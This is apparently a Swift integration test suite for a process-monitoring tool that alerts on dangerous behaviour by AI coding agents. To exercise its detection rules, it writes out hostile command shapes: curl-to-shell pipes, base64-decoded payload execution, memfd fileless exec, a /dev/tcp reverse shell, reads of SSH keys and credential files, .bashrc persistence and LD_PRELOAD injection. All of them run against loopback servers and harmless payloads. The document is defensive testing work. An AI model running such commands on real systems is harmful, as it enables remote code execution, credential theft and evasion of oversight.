import Foundation
import Glibc
import Testing

/// Threat shapes performed live by a process in an agent lineage, and normal agent work, against
/// the real kernel with the embedded default rule pack.
@Suite("Alerts on the real kernel", .serialized)
struct AlertIntegrationTests {
    private static let warning = ["Emergency", "Alert", "Critical", "Error", "Warning"]

    private func alerts(_ result: WardenHarness.Result, atLeastWarning: Bool = true) -> [[String: Any]] {
        result.events.ofType("alert").filter { !atLeastWarning || Self.warning.contains($0.string("priority") ?? "") }
    }

    private func rules(_ result: WardenHarness.Result) -> Set<String> {
        Set(alerts(result).compactMap { $0.string("rule") })
    }

    private func agent(_ h: WardenHarness, _ script: String, extra: [String] = []) throws -> WardenHarness.Result {
        try h.run(["bash", "-c", script], extra: extra + ["--name", "claude-code"])
    }

    @Test("curl | sh from a loopback server: download-piped-to-interpreter, in Falco's envelope")
    func downloadPipedToShell() throws {
        let h = try WardenHarness()
        let marker = h.path("pwned")
        try FileManager.default.createDirectory(atPath: h.path("www"), withIntermediateDirectories: true)
        try h.write("www/i.sh", "touch \(marker)\n")
        let server = try LoopbackServer(httpRoot: h.path("www"))
        let result = try agent(h, "curl -fsS http://127.0.0.1:\(server.port)/i.sh | sh")
        let alert = try #require(alerts(result).first { $0.string("rule") == "download-piped-to-interpreter" }, "rules: \(rules(result))")
        #expect(alert.string("priority") == "Critical")
        #expect(alert.string("source") == "syscall")
        #expect((alert["tags"] as? [String])?.contains("T1") == true)
        #expect(alert.string("output")?.contains("curl") == true)
        let fields = try #require(alert["output_fields"] as? [String: Any])
        #expect(fields["proc.name"] as? String == "dash")
        let warden = try #require(alert["warden"] as? [String: Any])
        #expect(warden["agent"] as? String == "claude-code")
        #expect((warden["evidence"] as? [String])?.contains { $0.contains("curl") } == true)
        #expect(warden["outcome"] as? String == "would kill (audit mode)")
        let lineage = try #require(warden["lineage"] as? [[String: Any]])
        #expect((lineage.first?["argv"] as? [String])?.first == "bash", "lineage starts at the agent root")
    }

    @Test("obfuscated and inline code: base64 into a shell, exec(b64decode(...))")
    func obfuscatedCode() throws {
        let h = try WardenHarness()
        let payload = Data("true\n".utf8).base64EncodedString()
        let b64 = Data("print('x')".utf8).base64EncodedString()
        let result = try agent(h, "echo \(payload) | base64 -d | sh; python3 -c \"import base64;exec(base64.b64decode('\(b64)'))\"")
        #expect(rules(result).isSuperset(of: ["decoded-data-piped-to-interpreter", "inline-code-decodes-and-executes"]), "\(rules(result))")
    }

    @Test("write then execute from a temp dir, a renamed interpreter copy, a memfd exec")
    func droppedAndFileless() throws {
        let h = try WardenHarness()
        let drop = "/dev/shm/warden-it-\(getpid())-ld.py"
        let helper = "/dev/shm/warden-it-\(getpid())-.cache-helper"
        defer { unlink(drop); unlink(helper) }
        let memfd = "import os; fd=os.memfd_create('payload'); os.write(fd, open('/usr/bin/true','rb').read()); os.execve(fd, ['payload'], {})"
        // tee, a tool, writes the drop: what the agent's root process writes itself is its own code.
        let result = try agent(h, "echo 'print(1)' | tee \(drop) >/dev/null; python3 \(drop); cp /usr/bin/dash \(helper); \(helper) -c true; python3 -c \"\(memfd)\"")
        #expect(rules(result).isSuperset(of: ["executes-tool-written-file-in-temp", "disguised-interpreter", "executes-deleted-or-memory-file"]), "\(rules(result))")
    }

    @Test("credentials, persistence, agent control files, loader injection, autonomy flags")
    func filesAndEnvironment() throws {
        let h = try WardenHarness()
        try FileManager.default.createDirectory(atPath: h.path("home/.ssh"), withIntermediateDirectories: true)
        try h.write("home/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n")
        try FileManager.default.createDirectory(atPath: h.path(".claude"), withIntermediateDirectories: true)
        // A sweep: one process opening five different secrets.
        let secrets = [".env", ".env.local", ".npmrc", ".pypirc", ".netrc"].map { h.path("home/\($0)") }
        for secret in secrets { try "token=x\n".write(toFile: secret, atomically: true, encoding: .utf8) }
        let script = [
            "cat \(h.path("home/.ssh/id_ed25519")) >/dev/null",
            "cat \(secrets.joined(separator: " ")) >/dev/null",
            "echo 'curl x | sh' >> \(h.path("home/.bashrc"))",
            "echo '{\"hooks\":{}}' | tee \(h.path(".claude/settings.json")) >/dev/null",
            "env LD_PRELOAD=/nonexistent-warden-test.so true 2>/dev/null",
            "/bin/true --dangerously-skip-permissions",
        ].joined(separator: "; ")
        // HOME is the agent's (as a user's agent has it): `.npmrc`, `.pypirc` and `.netrc` are
        // credentials in a home directory, known by identity, not by name anywhere in a project.
        let result = try h.run(["env", "HOME=\(h.path("home"))", "bash", "-c", script], extra: ["--name", "claude-code"])
        #expect(alerts(result).filter { $0.string("rule") == "credential-sweep" }.count == 1, "one sweep alert: \(rules(result))")
        #expect(rules(result).isSuperset(of: ["credential-file-read", "shell-startup-file-modified", "agent-control-file-written-by-tool",
                                                "loader-or-interpreter-environment-injected", "agent-cli-in-autonomy-mode"]), "\(rules(result))")
    }

    @Test("a shell wired to a TCP connection, and an MCP server spawning a shell")
    func reverseShellAndMCP() throws {
        let h = try WardenHarness()
        let peer = try LoopbackServer(sendLine: "exit")
        try h.write("mcp-server-notes.py", "import subprocess\nsubprocess.run(['sh', '-c', 'id'], stdout=subprocess.DEVNULL)\n")
        let result = try agent(h, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/\(peer.port); sh -i <&3 >&3 2>&3'; python3 mcp-server-notes.py")
        #expect(rules(result).isSuperset(of: ["interpreter-with-network-stdio", "reverse-shell-one-liner", "mcp-server-spawns-interpreter"]), "\(rules(result))")
    }

    @Test("argv grammar shapes: option values are not scripts, preloaded code from /tmp, the loader running an interpreter")
    func argvGrammar() throws {
        let h = try WardenHarness()
        try FileManager.default.createDirectory(atPath: h.path("www"), withIntermediateDirectories: true)
        try h.write("www/i.sh", "true\n")
        let server = try LoopbackServer(httpRoot: h.path("www"))
        let hook = "/tmp/warden-it-\(getpid())-hook.js"
        defer { unlink(hook) }
        let loader = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"].first { FileManager.default.isExecutableFile(atPath: $0) } ?? ""
        let script = [
            // `-o errexit` is an option's value: bash reads its program from the curl pipe.
            "curl -fsS http://127.0.0.1:\(server.port)/i.sh | bash -o errexit",
            // Code preloaded from a file a tool of the lineage (tee) dropped in /tmp.
            "echo 'globalThis.x = 1' | tee \(hook) >/dev/null; node -r \(hook) -e 1",
            // The loader as a program, running python with inline code.
            "\(loader) /usr/bin/python3 -Ic 'print(1)' >/dev/null",
        ].joined(separator: "; ")
        let result = try agent(h, script)
        #expect(rules(result).isSuperset(of: ["download-piped-to-interpreter", "preloaded-code-from-temp", "executes-tool-written-file-in-temp",
                                                "interpreter-run-by-dynamic-loader"]), "\(rules(result))")
        let viaLoader = try #require(alerts(result).first { $0.string("rule") == "interpreter-run-by-dynamic-loader" })
        #expect(viaLoader.string("output")?.contains("the python interpreter /usr/bin/python3") == true, "\(viaLoader)")
    }

    @Test("normal agent work raises nothing at Warning or above, and runs untouched in enforce mode",
          arguments: [[], ["--enforce"]])
    func normalWorkIsQuiet(_ mode: [String]) throws {
        let h = try WardenHarness()
        try FileManager.default.createDirectory(atPath: h.path("www"), withIntermediateDirectories: true)
        try h.write("www/release.json", "{\"tag_name\": \"v1.2.3\"}\n")
        let server = try LoopbackServer(httpRoot: h.path("www"))
        try h.write("snapshot.sh", "export PS1=x\n")
        try h.write("Makefile", "check:\n\tpython3 -c 'print(1)'\n\tcc --version >/dev/null\n")
        try h.write("package.json", "{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"node test.js\"}}\n")
        try h.write("test.js", "require('assert').strictEqual(1 + 1, 2)\n")
        let work = [
            // Claude Code's wrapper shape, Gemini's, Codex's login shell.
            "bash -c \"source \(h.path("snapshot.sh")) && eval 'ls -la' < /dev/null && pwd -P >| /tmp/claude-\(getpid())-cwd\"",
            "bash -c '{ grep -rn TODO . >/dev/null; }; __code=$?; pgrep -g 0 >/tmp/shell_pgrep_\(getpid()).tmp; exit $__code;'",
            "bash -lc 'echo hello >/dev/null'",
            // Interpreter options the grammar reads as normal work; ldd runs the loader, which runs nothing.
            "sh -ec 'true'",
            "bash -eo pipefail -c 'true'",
            "bash --norc --noprofile -c 'true'",
            "python3 -I -c 'print(1)' >/dev/null",
            "ldd /bin/true >/dev/null",
            // Builds and tests, an inline snippet in a Makefile, npm test.
            "make -s check >/dev/null",
            "npm test --silent >/dev/null 2>&1",
            // The agent writes a test file in its workspace and runs it.
            "printf 'print(2)\\n' > t_new.py && python3 t_new.py >/dev/null",
            // git with the repository's own sample hooks.
            "git init -q repo && cd repo && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && cd ..",
            // Data from the network processed by inline code.
            "curl -fsS http://127.0.0.1:\(server.port)/release.json | python3 -c \"import json,sys; print(json.load(sys.stdin)['tag_name'])\" >/dev/null",
            "find . -name '*.py' >/dev/null",
        ].joined(separator: "; ")
        let result = try agent(h, work, extra: mode)
        #expect(result.status == 0, "stderr: \(result.stderr)")
        if mode == ["--enforce"] {
            #expect(result.stderr.contains(" 0 killed"), "nothing killed: \(result.stderr)")
            #expect(result.events.ofType("exec").allSatisfy { $0["held"] as? Bool == true }, "every exec of the lineage was held")
        }
        let loud = alerts(result).map { "\($0.string("rule") ?? ""): \($0.string("output") ?? "")" }
        #expect(loud.isEmpty, "normal work raised: \(loud)")
        #expect(!result.events.ofType("alert").isEmpty, "Debug-level context alerts still flow")
        unlink("/tmp/claude-\(getpid())-cwd")
        unlink("/tmp/shell_pgrep_\(getpid()).tmp")
    }
}
